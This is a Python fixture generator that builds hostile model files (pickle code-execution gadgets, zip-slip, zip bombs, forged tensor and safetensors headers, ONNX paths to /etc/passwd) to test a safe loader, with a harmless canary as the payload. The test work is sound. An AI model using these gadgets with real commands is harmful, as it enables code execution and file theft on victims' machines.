"""Writes the hostile model files of family M1 into a folder. Nothing here is stored; each file is made when asked for.

Every gadget's payload is to create the canary file, so that code that ran is seen even where no audit hook looked.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import subprocess
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

from weights.forging import (
    Call,
    checkpoint,
    entry,
    forged_array,
    forged_tensor,
    npy,
    npz,
    onnx_model,
    safetensors,
    torch_saved,
    zipped,
)

Maker = Callable[[Path, str], bytes]  # folder, shell command of the payload -> content
MAKERS: dict[str, Maker] = {}

NOT_UNSAFE_ONLY_WRONG = (
    "onnx",
    "misnamed-onnx",
    "safetensors-nan",
    "pickle-odd-escape",
)  # refused, but not as a danger
HARMLESS_TO_LIST = ("safetensors-nan",)  # a header is honest even if the values are not finite


def write_hostile_files(folder: Path) -> list[Path]:
    """All files in `folder`; the canary, if any payload runs, is `folder.parent / "canary"`."""
    folder.mkdir()
    command = f"touch '{folder.parent / 'canary'}'"
    paths = []
    for name, maker in MAKERS.items():
        paths.append(folder / name)
        paths[-1].write_bytes(maker(folder, command))
    return paths


def hostile(name: str) -> Callable[[Maker], Maker]:
    def register(maker: Maker) -> Maker:
        assert name not in MAKERS
        MAKERS[name] = maker
        return maker

    return register


def _register_protocols() -> None:
    for protocol in range(6):

        def maker(_: Path, command: str, protocol: int = protocol) -> bytes:
            return checkpoint(pickle.dumps({"weight": Call(os.system, command)}, protocol))

        hostile(f"pickle-protocol-{protocol}.pt")(maker)


_register_protocols()


@hostile("pickle-subprocess.pt")
def _(_: Path, command: str) -> bytes:
    return checkpoint(pickle.dumps(Call(subprocess.Popen, ["sh", "-c", command]), 2))


@hostile("pickle-eval.pth")
def _(_: Path, command: str) -> bytes:
    return checkpoint(pickle.dumps({"model": {"weight": Call(eval, f"__import__('os').system({command!r})")}}, 2))


@hostile("pickle-nested.pt")
def _(_: Path, command: str) -> bytes:
    inner = pickle.dumps(Call(os.system, command), 2)
    return checkpoint(pickle.dumps({"state_dict": {"head": [{"a": (1, Call(pickle.loads, inner))}]}}, 2))


@hostile("pickle-torch-load.pt")
def _(folder: Path, command: str) -> bytes:
    (folder.parent / "second-stage.pt").write_bytes(pickle.dumps(Call(os.system, command), 2))
    return checkpoint(pickle.dumps(Call(torch.load, str(folder.parent / "second-stage.pt"), "cpu", None), 2))


@hostile("pickle-bare.pth")
def _(_: Path, command: str) -> bytes:
    return pickle.dumps(Call(os.system, command), 4)


@hostile("pickle-text.pth")
def _(_: Path, command: str) -> bytes:
    return pickle.dumps(Call(os.system, command), 0)


@hostile("pickle-legacy.pth")
def _(_: Path, command: str) -> bytes:
    return torch_saved({"w": torch.ones(2), "x": Call(os.system, command)}, _use_new_zipfile_serialization=False)


@hostile("pickle-stack-global.pt")
def _(_: Path, command: str) -> bytes:
    text = command.encode()
    return checkpoint(
        b"\x80\x02X\x05\x00\x00\x00posixX\x06\x00\x00\x00system\x93X" + struct.pack("<I", len(text)) + text + b"\x85R."
    )


@hostile("pickle-storage-call.pt")  # allowed by torch's own safe loader: allocates 8 TB
def _(_: Path, __: str) -> bytes:
    count = b"\x8a\x06" + (10**12).to_bytes(6, "little")
    return checkpoint(b"\x80\x02}X\x01\x00\x00\x00wctorch\nDoubleStorage\n" + count + b"\x85Rs.")


@hostile("pickle-escaped-name.pt")  # one reader sees OrderedDict, another does not
def _(_: Path, __: str) -> bytes:
    return checkpoint(b"\x80\x02ccollections\n\\x4frderedDict\n)R.")


@hostile("pickle-odd-escape.pt")
def _(_: Path, command: str) -> bytes:
    return checkpoint(pickle.dumps(Call(os.system, command), 2).replace(b"posix", b"pos\\hix"))


@hostile("pickle-deep-key.pt")  # hashing the key would overflow the C stack
def _(_: Path, __: str) -> bytes:
    return checkpoint(b"\x80\x02})" + b"\x85" * 200_000 + b"K\x01s.")


@hostile("pickle-dense.pt")
def _(_: Path, __: str) -> bytes:
    return checkpoint(b"\x80\x02(" + b"]" * 3_000_000 + b"t.")


@hostile("pickle-unfolding.pt")  # 60 dictionaries that hold the next one twice: 2^60 leaves
def _(_: Path, __: str) -> bytes:
    leaf: Any = {}
    for _level in range(60):
        leaf = {"a": leaf, "b": leaf}
    return torch_saved({"model": leaf})


@hostile("pickle-two-stops.pt")
def _(_: Path, command: str) -> bytes:
    return checkpoint(pickle.dumps({}, 2) + pickle.dumps(Call(os.system, command), 2))


@hostile("tar.pth")
def _(_: Path, command: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            content = pickle.dumps(Call(os.system, command), 2)
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


@hostile("program.pt2")
def _(_: Path, __: str) -> bytes:
    records = {"archive_format": b"pt2", "archive_version": b"0", "byteorder": b"little", "version": b"3"}
    return zipped({f"model/{name}": content for name, content in records.items()} | {"model/models/model.json": b"{}"})


@hostile("torchscript.pt")
def _(_: Path, __: str) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # TorchScript itself is deprecated, which is not the point here
        torch.jit.save(torch.jit.trace(torch.nn.Linear(2, 2), torch.ones(1, 2)), buffer)
    return buffer.getvalue()


@hostile("misnamed-pickle.safetensors")
def _(_: Path, command: str) -> bytes:
    return pickle.dumps({"w": Call(os.system, command)}, 2)


@hostile("misnamed-checkpoint.npz")
def _(_: Path, command: str) -> bytes:
    return checkpoint(pickle.dumps({"w": Call(os.system, command)}, 2))


@hostile("misnamed-objects.pt")
def _(_: Path, command: str) -> bytes:
    return zipped({"w.npy": npy(np.array([Call(os.system, command)], dtype=object), allow_pickle=True)})


@hostile("misnamed-onnx.safetensors")
def _(_: Path, __: str) -> bytes:
    return onnx_model("weights.bin")


for _name, _record in {"zip-slip.npz": "../../evil.npy", "zip-absolute.npz": "/tmp/evil.npy"}.items():
    hostile(_name)(lambda _, __, record=_record: zipped({record: npy(np.ones(2))}))


@hostile("zip-bomb.pt")
def _(_: Path, __: str) -> bytes:
    return zipped({"archive/data.pkl": pickle.dumps({}, 2), "archive/data/0": bytes(64 << 20)}, zipfile.ZIP_DEFLATED)


@hostile("zip-overlap.npz")  # many directory entries for one record: expands without a high ratio in any of them
def _(_: Path, __: str) -> bytes:
    single = zipped({"000.npy": npy(np.ones(1000))})
    start = single.index(b"PK\x01\x02")
    directory, count = single[start:-22], 500
    forged = b"".join(directory.replace(b"000", f"{i:03}".encode()) for i in range(count))
    return single[:start] + forged + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(forged), start, 0)


@hostile("zip-duplicate.pt")
def _(_: Path, command: str) -> bytes:
    good = torch_saved({"w": torch.ones(2)})
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")  # Python warns of the second name
        archive.writestr("archive/data.pkl", zipfile.ZipFile(io.BytesIO(good)).read("archive/data.pkl"))
        archive.writestr("archive/data.pkl", pickle.dumps(Call(os.system, command), 2))
        archive.writestr("archive/data/0", bytes(8))
    return buffer.getvalue()


@hostile("zip-flags.npz")
def _(_: Path, __: str) -> bytes:
    content = bytearray(npz(a=np.ones(3)))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


@hostile("zip-two-names.npz")
def _(_: Path, __: str) -> bytes:
    content = bytearray(npz(aa=np.ones(3)))
    content[30:32] = b"bb"
    return bytes(content)


@hostile("zip-two-sizes.npz")
def _(_: Path, __: str) -> bytes:
    content = bytearray(npz(a=np.ones(3)))
    content[22] ^= 8
    return bytes(content)


@hostile("zip-hidden-front.pt")
def _(_: Path, __: str) -> bytes:
    good, hidden = torch_saved({"w": torch.ones(2)}), zipped({"x": b"x"})[:37]
    return hidden + good


@hostile("zip-comment.npz")
def _(_: Path, __: str) -> bytes:
    second = npz(b=np.ones(3))
    return npz(a=np.ones(3))[:-2] + struct.pack("<H", len(second)) + second


FORGED_CLAIMS = {
    "numel": (b"K\x23t", b"J\x00\x00\x00\x7ft"),
    "negative-numel": (b"K\x23t", b"J\xff\xff\xff\xfft"),
    "size": (b"K\x07K\x05\x86", b"K\xffK\x05\x86"),
    "stride": (b"K\x05K\x01\x86", b"K\x05K\xff\x86"),
    "offset": (b"QK\x00", b"QJ\xff\xff\xff\xff"),
    "expansion": (  # 2^60 values, all of them the same four bytes
        b"K\x07K\x05\x86q\x09K\x05K\x01\x86",
        b"J\x00\x00\x00\x40J\x00\x00\x00\x40\x86q\x09K\x00K\x00\x86",
    ),
}
for _claim, (_old, _new) in FORGED_CLAIMS.items():
    hostile(f"forged-{_claim}.pt")(lambda _, __, old=_old, new=_new: forged_tensor(old, new))


@hostile("safetensors-overlap.safetensors")
def _(_: Path, __: str) -> bytes:
    return safetensors({"a": entry(0, 8, [2]), "b": entry(4, 12, [2])}, bytes(12))


@hostile("safetensors-hole.safetensors")
def _(_: Path, __: str) -> bytes:
    return safetensors({"a": entry(0, 8, [2]), "b": entry(12, 20, [2])}, bytes(20))


@hostile("safetensors-overflow.safetensors")
def _(_: Path, __: str) -> bytes:
    return safetensors({"a": entry(0, 0, [2**32, 2**32])})


@hostile("safetensors-out-of-range.safetensors")
def _(_: Path, __: str) -> bytes:
    return safetensors({"a": entry(0, 4 << 40, [1 << 40])}, bytes(8))


@hostile("safetensors-bloat.safetensors")
def _(_: Path, __: str) -> bytes:
    return safetensors({"a": entry(0, 8, [2])}, bytes(8) + b"MZ" + bytes(1000))


@hostile("safetensors-huge-header.safetensors")
def _(_: Path, __: str) -> bytes:
    return struct.pack("<Q", 1 << 60) + b"{}"


@hostile("safetensors-dense-header.safetensors")
def _(_: Path, __: str) -> bytes:
    return safetensors(b'{"a":[' + b"[]," * 2_000_000 + b"[]]}")


@hostile("safetensors-deep-header.safetensors")
def _(_: Path, __: str) -> bytes:
    return safetensors(b'{"a":' * 100_000)


@hostile("safetensors-duplicate.safetensors")
def _(_: Path, __: str) -> bytes:
    one = json.dumps(entry(0, 8, [2]))
    return safetensors(f'{{"a":{one},"a":{one}}}'.encode(), bytes(8))


@hostile("safetensors-nan.safetensors")
def _(_: Path, __: str) -> bytes:
    return safetensors({"a": entry(0, 8, [2])}, struct.pack("<2f", 1.0, float("nan")))


@hostile("npz-object.npz")
def _(_: Path, command: str) -> bytes:
    return zipped({"w.npy": npy(np.array([Call(os.system, command)], dtype=object), allow_pickle=True)})


@hostile("npz-fields.npz")  # a record type with an object inside
def _(_: Path, __: str) -> bytes:
    array = np.array([(1, None)], dtype=[("a", "<i4"), ("b", "O")])
    return zipped({"w.npy": npy(array, allow_pickle=True)})


@hostile("npz-bomb.npz")
def _(_: Path, __: str) -> bytes:
    return zipped({"w.npy": npy(np.zeros(16 << 20, dtype=np.float32))}, zipfile.ZIP_DEFLATED)


@hostile("npz-header-code.npz")
def _(_: Path, command: str) -> bytes:
    return forged_array(f"{{'descr': __import__('os').system({command!r}), 'fortran_order': False, 'shape': (1,), }}")


@hostile("npz-forged-shape.npz")
def _(_: Path, __: str) -> bytes:
    return forged_array("{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }")


@hostile("onnx-link.onnx")
def _(folder: Path, __: str) -> bytes:
    (folder.parent / "link.bin").symlink_to("/etc/passwd")
    return onnx_model("../link.bin")


ONNX_PLACES = {
    "onnx-absolute.onnx": ("/etc/passwd", "0"),
    "onnx-parent.pt": ("../../../../secret", "0"),
    "onnx-url.onnx": ("http://127.0.0.1:9/w.bin", "0"),
    "onnx-offset.onnx": ("w.bin", str(2**63)),
    "onnx-itself.npz": ("onnx-itself.npz", "0"),
}
for _name, _place in ONNX_PLACES.items():
    hostile(_name)(lambda _, __, place=_place: onnx_model(*place))


@hostile("config-policy.safetensors")
def _(_: Path, __: str) -> bytes:
    return safetensors({"__metadata__": {"allow_pickle": True, "weights_only": False}, "a": entry(0, 4, [1])}, bytes(4))


@hostile("config-loader.safetensors")
def _(_: Path, __: str) -> bytes:
    return safetensors({"a": {**entry(0, 4, [1]), "loader": "os.system"}}, bytes(4))


@hostile("config-twice.safetensors")
def _(_: Path, __: str) -> bytes:
    tensor = json.dumps(entry(0, 4, [1]))
    harmless, evil = '{"format":"pt"}', '{"auto_map":"evil.Model","trust_remote_code":"true"}'
    return safetensors(f'{{"__metadata__":{harmless},"a":{tensor},"__metadata__":{evil}}}'.encode(), bytes(4))
